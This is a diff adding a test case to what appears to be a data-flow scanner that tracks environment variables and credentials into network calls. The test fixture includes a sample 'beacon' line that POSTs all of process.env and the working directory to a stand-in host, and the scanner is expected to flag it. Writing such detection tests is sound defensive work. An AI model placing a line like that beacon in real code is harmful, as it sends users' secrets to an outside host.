@@ -357,6 +357,19 @@ describe('data flow', () => {
     ).toEqual([['env:*', 'https.request().write']]);
   });
 
+  it('does not follow the environment handed to a child process into what it prints', () => {
+    const source = [
+      "const { execSync } = require('child_process');",
+      "const out = execSync('npm view x --json', { env: process.env, stdio: 'pipe', windowsHide: true });",
+      'const url = JSON.parse(out).dist.attestations.url;',
+      'fetch(url);',
+    ].join('\n');
+    expect(flows(source).filter(([, to]) => to === 'fetch')).toEqual([]);
+    const beacon =
+      "fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ env: process.env, cwd: process.cwd() }) });";
+    expect(flows(beacon)).toEqual([['env:*', 'fetch']]);
+  });
+
   it('follows a credential file into fetch and into a template literal command', () => {
     expect(
       flows(
